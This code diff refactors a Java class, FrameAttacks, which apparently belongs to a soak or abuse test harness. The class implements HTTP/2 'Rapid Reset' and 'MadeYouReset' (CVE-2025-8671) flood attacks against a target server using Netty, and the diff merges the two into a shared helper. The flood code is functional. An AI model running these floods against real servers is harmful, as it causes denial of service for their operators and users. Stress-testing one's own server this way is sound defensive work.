@@ -1,9 +1,12 @@
 package dev.typecase.soak.abuse;
 
 import io.netty.buffer.Unpooled;
+import io.netty.channel.ChannelFuture;
+import io.netty.channel.ChannelHandlerContext;
 import io.netty.handler.codec.http2.Http2Error;
 import io.netty.handler.codec.http2.Http2Flags;
 import io.netty.handler.codec.http2.Http2FrameTypes;
+import io.netty.handler.codec.http2.Http2FrameWriter;
 import io.netty.handler.codec.http2.Http2Headers;
 import io.netty.handler.codec.http2.Http2Settings;
 import java.util.ArrayList;
@@ -25,25 +28,32 @@ final class FrameAttacks {
 
   private FrameAttacks() {}
 
+  private interface Reset {
+    ChannelFuture write(Http2FrameWriter frames, ChannelHandlerContext ctx, int stream);
+  }
+
   static String rapidReset(Target target) {
-    try (Attacker attacker = Attacker.speaking(target, Attacker.USUAL_WINDOW)) {
-      Http2Headers headers = Attacker.headers("Read");
-      int sent =
-          attacker.flood(
-              CALLS,
-              BATCH,
-              (frames, ctx) -> {
-                int stream = attacker.nextStream();
-                var _ = frames.writeHeaders(ctx, stream, headers, 0, false, ctx.newPromise());
-                return frames.writeRstStream(
-                    ctx, stream, Http2Error.CANCEL.code(), ctx.newPromise());
-              });
-      return "%s; sent %,d".formatted(attacker.awaitHungUp(), sent);
-    }
+    return resets(
+        target,
+        (frames, ctx, stream) ->
+            frames.writeRstStream(ctx, stream, Http2Error.CANCEL.code(), ctx.newPromise()));
   }
 
   /** A window that opens by nothing is an error of the stream (CVE-2025-8671, "MadeYouReset"). */
   static String resetsProvoked(Target target) {
+    return resets(
+        target,
+        (frames, ctx, stream) ->
+            frames.writeFrame(
+                ctx,
+                Http2FrameTypes.WINDOW_UPDATE,
+                stream,
+                new Http2Flags(),
+                Unpooled.buffer().writeInt(0),
+                ctx.newPromise()));
+  }
+
+  private static String resets(Target target, Reset reset) {
     try (Attacker attacker = Attacker.speaking(target, Attacker.USUAL_WINDOW)) {
       Http2Headers headers = Attacker.headers("Read");
       int sent =
@@ -53,13 +63,7 @@ final class FrameAttacks {
               (frames, ctx) -> {
                 int stream = attacker.nextStream();
                 var _ = frames.writeHeaders(ctx, stream, headers, 0, false, ctx.newPromise());
-                return frames.writeFrame(
-                    ctx,
-                    Http2FrameTypes.WINDOW_UPDATE,
-                    stream,
-                    new Http2Flags(),
-                    Unpooled.buffer().writeInt(0),
-                    ctx.newPromise());
+                return reset.write(frames, ctx, stream);
               });
       return "%s; sent %,d".formatted(attacker.awaitHungUp(), sent);
     }
